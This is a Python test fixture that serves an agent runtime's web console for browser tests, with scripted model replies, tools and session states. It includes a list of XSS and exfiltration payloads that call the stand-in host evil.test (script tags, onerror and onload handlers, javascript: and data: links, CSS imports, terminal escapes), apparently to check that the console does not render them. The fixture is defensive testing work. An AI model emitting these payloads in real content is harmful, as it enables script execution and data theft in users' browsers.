"""A small world of sessions, served with its console: what the browser tests look at."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import uvicorn

from holdfast import Approve, Context, Rule, Runtime, strategy, tool
from holdfast.agent.providers.provider import ModelRequest
from holdfast.core.queries import Usage
from holdfast.serve.http.app import ApiApp
from holdfast.serve.http.door import Door
from holdfast.serve.http.endpoints import ENDPOINTS
from holdfast.serve.http.web_app import WebApp
from holdfast.testing.patience import until
from holdfast.testing.provider import ScriptedProvider, ScriptStep, reasoning, reply, stream, tool_call

TOKEN = "a-token-for-this-machine-only"

TALK = [f"word{number} " for number in range(40)]
"""The pieces of the reply to `talk`."""

MARKDOWN = (
    "The budget is fine: **31 %** used.\n\n| change | risk |\n|---|---|\n| retries | low |\n\n```sh\ndeploy shop\n```"
)

ATTACKS = [
    "<img src=x onerror=\"fetch('http://evil.test/1')\">",
    "<script>fetch('http://evil.test/2')</script>",
    "![pixel](http://evil.test/3.png)",
    "[click](javascript:fetch('http://evil.test/4'))",
    "[quiet](//evil.test/5)",
    "<svg onload=\"fetch('http://evil.test/6')\"><animate onbegin=alert(1)></svg>",
    '<iframe src="http://evil.test/7"></iframe><form action="http://evil.test/7"><button>ok</button></form>',
    "<style>@import url('http://evil.test/8.css');</style><link rel=stylesheet href=http://evil.test/8>",
    "[data](data:text/html,<script>fetch('http://evil.test/9')</script>) <math><mi xlink:href=javascript:alert(1)>",
    "\u202egnp.exe\u200b \u001b]8;;http://evil.test/10\u0007link\u001b]8;;\u0007 {{constructor('alert(1)')}}",
]
"""What a model or a tool may say to have a browser ask for something or run something."""


@tool
def error_budget(service: str) -> str:
    """How much of the error budget is used."""
    return f"{service}: 31 % used"


@tool
def deploy(service: str, version: str) -> str:
    """Put a version of a service into production."""
    return f"{service} {version} runs"


@strategy(name="triage")
async def triage(ctx: Context) -> str:
    """Asks a person with choices."""
    return str(await ctx.ask("File it with the data team?", choices=["yes", "no"]))


@strategy(name="interview")
async def interview(ctx: Context) -> str:
    """Asks a person anything."""
    return str(await ctx.ask("What was the hardest part?"))


@strategy(name="summary")
async def summary(ctx: Context) -> str:
    """Asks a model that its host answers for."""
    return str(await ctx.llm("Sum up these tickets:\n\n1. The export is empty.\n2. **Login** fails.\n3. Slow pages."))


@strategy(name="broken")
async def broken(ctx: Context) -> str:
    """Fails."""
    ctx.log("about to fail")
    raise ValueError("the table `orders` is locked")


@strategy(name="hostile")
async def hostile(ctx: Context) -> str:
    """Asks a person what an attacker wrote."""
    return str(await ctx.ask("\n\n".join(ATTACKS)))


@strategy(name="parent")
async def parent(ctx: Context) -> str:
    """Has a child that asks a person."""
    return str(await ctx.child(interview))


def model(request: ModelRequest) -> ScriptStep:
    """What the model says, by what it was asked last."""
    asked = next(each.text for each in reversed(request.messages) if each.role == "user")
    results = [each for each in request.messages if each.role == "tool"]
    usage = Usage(prompt_tokens=1200, completion_tokens=80, cost=0.004)
    if any(each.text.startswith("Compute") for each in request.messages if each.role == "user"):
        is_done = any(each.role == "assistant" for each in request.messages)
        return reply("It is 6." if is_done else "```python\ntotal = sum([1, 2, 3])\nprint(total)\n```", usage=usage)
    if asked.startswith("Ship"):
        steps: list[Any] = [
            reply(
                reasoning("First the budget."), "I look first.", tool_call("error_budget", service="shop"), usage=usage
            ),
            reply(MARKDOWN, tool_call("deploy", service="shop", version="2.14.0"), usage=usage),
            reply("It runs.", usage=usage),
        ]
        return steps[min(len(results), 2)]  # type: ignore[no-any-return]
    if asked.startswith("talk for ever"):
        return reply(stream(*TALK * 10_000, every_s=0.05), usage=usage)
    if asked.startswith("talk"):
        return reply(stream(*TALK, every_s=0.005), usage=usage)
    if asked.startswith("attack"):
        return (
            reply("\n\n".join(ATTACKS), tool_call("error_budget", service=ATTACKS[-1]), usage=usage)
            if not results
            else "Done."
        )
    return reply(f"You said: {asked}", usage=usage)


@dataclass
class Site:
    """A served world."""

    runtime: Runtime
    url: str
    app: Any

    async def answer_elsewhere(self, session_id: str, query_id: str, value: Any) -> None:
        """Answer a question without any browser, as somebody else."""
        await self.runtime.mount.holdfast.feed(session_id, {query_id: value}, by="bob")


@contextlib.asynccontextmanager
async def served(
    path: Path, wrapped: Callable[[Any], Any] = lambda app: app, answer: Any = model, **options: Any
) -> AsyncIterator[Site]:
    """A runtime on a SQLite file, served with its console.

    `wrapped` may put something around the application; `answer` is what the model says; options are those of the door.
    """
    rules = Approve([Rule.confirm("deploy").because("it cannot be undone")])
    provider = ScriptedProvider([answer], loop=True)
    tools: list[Any] = [error_budget, deploy]
    async with Runtime(f"sqlite:///{path}", provider=provider, tools=tools, plugins=[rules], model="m-1") as runtime:
        app = WebApp(ApiApp(Door(runtime, local_token=TOKEN, **options), ENDPOINTS))
        config = uvicorn.Config(wrapped(app), port=0, log_config=None, lifespan="off", ws="none")
        server = uvicorn.Server(config)
        server.install_signal_handlers = lambda: None  # type: ignore[attr-defined]
        serving = asyncio.create_task(server.serve())
        await until(lambda: server.started or serving.done())
        port = server.servers[0].sockets[0].getsockname()[1]
        try:
            yield Site(runtime, f"http://127.0.0.1:{port}", app)
        finally:
            app.api.door.close()
            server.should_exit = True
            await serving


async def fill(site: Site) -> None:
    """Sessions in every state that a page shows."""
    holdfast = site.runtime.mount.holdfast
    await begin_chat(site, "notes", "Write the release notes", title="Release notes")
    await holdfast.fork("notes", turn="t-1", id="notes-fork")
    await begin_chat(site, "deploy", "Ship shop 2.14.0", title="Ship the shop", labels=["deploy", "urgent"], over=False)
    await holdfast.start(triage, id="triage", title="The export is empty", labels=["shop"])
    await holdfast.start(interview, id="interview")
    await holdfast.start(summary, id="summary", llm="host")
    await holdfast.start(parent, id="parent")
    await holdfast.start(broken, id="broken", title="Migrate the orders")
    cells = await site.runtime.session("cells").rlm().open()
    await cells.turn("Compute the sum").id("t-1").run()
    await until(lambda: _asks(site, 5))


async def begin_chat(
    site: Site, session_id: str, text: str, *, title: str = "", labels: list[str] | None = None, over: bool = True
) -> None:
    """An agent's session with one turn, which has ended, or waits for somebody."""
    session = await site.runtime.session(session_id).open()
    turn = session.turn(text).id("t-1")
    if over:
        await turn.run()
    else:
        await turn.begin()
    if title or labels:
        await site.runtime.mount.holdfast.label(session_id, title=title or None, labels=labels)


async def _asks(site: Site, count: int) -> bool:
    rows = (await site.runtime.mount.store.sessions(limit=100)).rows
    return sum(row.summary.asks for row in rows) >= count
